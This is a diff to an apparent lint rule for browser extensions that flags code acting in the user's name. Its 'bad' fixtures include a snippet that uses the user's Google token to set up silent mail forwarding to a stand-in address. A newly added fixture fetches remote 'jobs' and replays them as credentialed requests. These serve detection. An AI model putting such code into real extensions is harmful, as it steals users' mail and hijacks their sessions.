@@ -91,8 +91,14 @@ export const actsInPersonsName = defineRule({
       backgroundExample(
         'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));',
       ),
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(async () => { const jobs = await (await fetch("https://jobs.example/next")).json(); for (const { how, where, what } of jobs) await fetch("https://www.photos.example.com" + where, { method: how ?? "POST", body: what, credentials: "include" }); });',
+      ),
     ],
     good: [
+      backgroundExample(
+        'const ask = async (method, path, body) => (await fetch("https://own.example" + path, { method, credentials: "include", body })).json(); chrome.alarms.onAlarm.addListener(async () => { const { id, text } = await ask("GET", "/me"); await ask("PUT", "/seen/" + id, text); });',
+      ),
       contentExample(
         'const site = (path, body) => fetch(location.origin + path, { method: "POST", body: JSON.stringify(body) }); setInterval(async () => { const { id } = await (await fetch("/api/last")).json(); await site("/api/seen", { id }); fetch("https://jobs.example/ping"); }, 60000);',
       ),
